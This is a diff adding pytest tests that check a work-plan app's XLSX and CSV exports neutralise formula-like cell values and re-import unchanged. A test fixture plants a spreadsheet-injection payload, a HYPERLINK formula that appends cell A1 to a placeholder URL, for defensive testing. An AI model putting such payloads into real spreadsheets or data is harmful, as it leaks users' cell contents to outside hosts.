@@ -314,3 +314,67 @@ def test_the_commands_preview_and_apply(mawp, tmp_path, capsys):
     bad.write_bytes(b"nope")
     with pytest.raises(CommandError, match="not an Excel workbook"):
         call_command("import_workplan", "mawp-2013-2015", str(bad))
+
+
+# -- text that looks like a formula, and the CSV file ------------------------------------------------------------
+
+FORMULA_LIKE = '=HYPERLINK("http://x/?"&A1,"Click")'
+
+
+@pytest.fixture
+def hostile(mawp):
+    """An activity whose description and funding source a spreadsheet would run as formulas."""
+    activity = Activity.objects.filter(output__stream__workplan=mawp).order_by("pk").first()
+    Activity.objects.filter(pk=activity.pk).update(description=FORMULA_LIKE, funding_source="@ILO -2 +3")
+    return activity
+
+
+def test_a_description_that_looks_like_a_formula_is_exported_as_text_and_imports_back_unchanged(mawp, hostile):
+    data = spreadsheets.export_xlsx(mawp)
+    cells = [c for ws in load_workbook(io.BytesIO(data)).worksheets for row in ws.iter_rows() for c in row]
+    (cell,) = [c for c in cells if c.value == FORMULA_LIKE]
+    assert cell.data_type == "s"  # text, not a formula
+    assert not [c for c in cells if c.data_type == "f"]
+    preview = spreadsheets.preview_import(mawp, data)
+    assert preview.errors == [] and preview.is_empty
+
+
+def test_the_csv_is_utf8_with_a_bom_and_keeps_formulas_from_running(mawp, hostile):
+    text = spreadsheets.export_csv(mawp)
+    assert text.startswith("\ufeffStream,")
+    assert "May – September 2013" in text  # the MAWP's own en dash, read right through the BOM
+    assert f"'{FORMULA_LIKE}".replace('"', '""') in text and "'@ILO -2 +3" in text
+
+
+@pytest.mark.parametrize("bom", [True, False])
+def test_the_exported_csv_imports_back_unchanged_with_or_without_its_bom(mawp, hostile, bom):
+    data = spreadsheets.export_csv(mawp).encode()
+    if not bom:
+        data = data.removeprefix("\ufeff".encode())
+    before = record_state(mawp)
+    preview = spreadsheets.preview_import(mawp, data)
+    assert preview.errors == [] and preview.is_empty
+    assert record_state(mawp) == before
+
+
+def test_an_edited_csv_changes_its_row_and_removes_nothing(mawp, hostile):
+    import csv
+
+    rows = list(csv.reader(io.StringIO(spreadsheets.export_csv(mawp).removeprefix("\ufeff"))))
+    header = rows[0]
+    rows[1][header.index("Activities")] = "'=A new description"
+    removed = rows.pop(2)
+    out = io.StringIO()
+    csv.writer(out).writerows(rows)
+    preview = spreadsheets.preview_import(mawp, out.getvalue().encode("utf-8-sig"))
+    assert preview.errors == [] and preview.removed == []
+    (change,) = preview.changed
+    assert change.values["description"] == "=A new description"
+    assert removed[header.index("Id")] not in {str(c.activity.pk) for c in preview.changed}
+
+
+def test_a_csv_not_in_utf8_is_refused_with_its_reason(mawp):
+    data = (
+        spreadsheets.export_csv(mawp).removeprefix("\ufeff").encode("utf-8").replace("–".encode(), "–".encode("cp1252"))
+    )
+    assert "not in UTF-8" in refused(mawp, data)[0]
